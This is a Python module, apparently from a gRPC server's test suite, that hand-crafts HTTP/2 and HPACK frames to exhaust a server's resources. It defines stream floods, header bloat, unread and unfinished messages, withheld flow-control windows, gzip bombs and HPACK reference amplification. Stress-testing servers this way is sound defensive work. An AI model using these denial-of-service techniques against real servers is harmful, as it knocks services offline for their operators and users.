"""Connections that make a server hold as much as they can, in HTTP/2 written by hand (RFC 9113)."""

import socket
import struct
import threading
import zlib

from messages import Payload, ResponseParameters, SimpleRequest, StreamingOutputCallRequest

DATA, HEADERS, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 4, 6, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME = 16_384  # the most that a frame may carry
STREAM_WINDOW = 1 << 20  # what the server gives each stream, and the connection sixteen times as much
PATIENCE = 60  # seconds


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value, indexed=False):
    """A field that enters the table or does not (RFC 7541 §6.2)."""
    return (b"\x40" if indexed else b"\x00") + _text(name) + _text(value)


def _text(text):
    count = len(text)
    if count < 127:
        return bytes([count]) + text
    rest, count = b"", count - 127
    while count >= 128:
        rest += bytes([count & 127 | 128])
        count >>= 7
    return b"\x7f" + rest + bytes([count]) + text


def headers(stream, method, more=b"", flags=0):
    block = (b"\x83\x86" + literal(b":path", b"/grpc.testing.TestService/" + method)
             + literal(b":authority", b"here") + literal(b"content-type", b"application/grpc")
             + literal(b"te", b"trailers") + more)
    assert len(block) <= FRAME
    return frame(HEADERS, END_HEADERS | flags, stream, block)


def message(payload, length=None, compressed=False):
    return bytes([compressed]) + struct.pack(">I", len(payload) if length is None else length) + payload


def body(stream, payload, ends=False):
    parts = [payload[start:start + FRAME] for start in range(0, len(payload), FRAME)] or [b""]
    last = len(parts) - 1
    return b"".join(frame(DATA, END_STREAM if ends and index == last else 0, stream, part)
                    for index, part in enumerate(parts))


def ids(count):
    return range(1, 2 * count, 2)


class Peer:
    """A connection that says what it is told to, and bears it when the server closes."""

    def __init__(self, address, window=None):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=PATIENCE)
        settings = b"" if window is None else struct.pack(">HI", INITIAL_WINDOW_SIZE, window)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        # The server's settings, which have to be acknowledged before they hold.
        self.is_open = bool(self.socket.recv(9))
        self.send(frame(SETTINGS, ACK, 0))

    def send(self, data):
        try:
            if self.is_open:
                self.socket.sendall(data)
        except OSError:
            self.is_open = False

    def settle(self):
        """Returns once the server has worked off what was sent, or has closed the connection."""
        mark = b"attacked"
        self.send(frame(PING, 0, 0, mark))
        seen = b""
        try:
            while self.is_open and mark not in seen:
                more = self.socket.recv(1 << 16)
                self.is_open = bool(more)
                seen = seen[-len(mark):] + more
        except ConnectionError:
            self.is_open = False

    def close(self):
        self.socket.close()


# Attacks: what one connection does, from its peer on.


def open_calls(peer):
    for stream in ids(300):
        peer.send(headers(stream, b"StreamingInputCall"))


def metadata(peer):
    more = b"".join(literal(b"x-%d" % index, b"v" * 700) for index in range(10))
    for stream in ids(300):
        peer.send(headers(stream, b"StreamingInputCall", more))


def small_metadata(peer):
    more = b"".join(literal(b"x", b"") for _ in range(200))
    for stream in ids(300):
        peer.send(headers(stream, b"StreamingInputCall", more))


# Makes a handler wait, and not read.
_SLEEP = message(StreamingOutputCallRequest(response_parameters=[
    ResponseParameters(size=1, interval_us=600_000_000)]).SerializeToString())


def unread_messages(peer):
    for stream in ids(5):
        peer.send(headers(stream, b"FullDuplexCall") + body(stream, _SLEEP + message(bytes(16_000)) * 60))


def unread_empty_messages(peer):
    for stream in ids(2):
        peer.send(headers(stream, b"FullDuplexCall") + body(stream, _SLEEP + message(b"") * 150_000))


def unfinished_messages(peer):
    for stream in ids(5):
        started = message(bytes(STREAM_WINDOW - 1_000), length=4 << 20)
        peer.send(headers(stream, b"StreamingInputCall") + body(stream, started))


_LARGE_ANSWER = message(SimpleRequest(response_size=(4 << 20) - 100).SerializeToString())


def untaken_answers(peer):
    for stream in ids(12):
        peer.send(headers(stream, b"UnaryCall") + body(stream, _LARGE_ANSWER, ends=True))


_GZIP = literal(b"grpc-encoding", b"gzip")


def _gzip(data, flush=zlib.Z_FINISH):
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    return compressor.compress(data) + compressor.flush(flush)


def gzip_bombs(peer):
    # After a full flush the same blocks may come again and again: a gibibyte, in a megabyte.
    start = _gzip(bytes(1 << 20), zlib.Z_FULL_FLUSH)
    bomb = message(start + start[10:] * 1_023, compressed=True)
    for stream in ids(4):
        peer.send(headers(stream, b"UnaryCall", _GZIP) + body(stream, bomb, ends=True))


def legal_gzip_bombs(peer):
    request = SimpleRequest(payload=Payload(body=bytes((4 << 20) - 100))).SerializeToString()
    bomb = message(_gzip(request), compressed=True)
    for stream in ids(20):
        peer.send(headers(stream, b"UnaryCall", _GZIP) + body(stream, bomb, ends=True))


def header_references(peer):
    newest = b"\xbe"
    for stream in ids(20):
        more = literal(b"x", b"v" * 4_000, indexed=True) + newest * 10_000
        peer.send(headers(stream, b"UnaryCall", more, END_STREAM))


ATTACKS = {
    attack.__name__: attack for attack in (
        open_calls, metadata, small_metadata, unread_messages, unread_empty_messages, unfinished_messages,
        untaken_answers, gzip_bombs, legal_gzip_bombs, header_references)}


def run(address, attack, connections):
    """Attacks on so many connections at once; answers them, when all is worked off."""
    window = 0 if attack is untaken_answers else None
    peers = [Peer(address, window) for _ in range(connections)]
    for step in (attack, Peer.settle):
        threads = [threading.Thread(target=step, args=(peer,)) for peer in peers]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    return peers
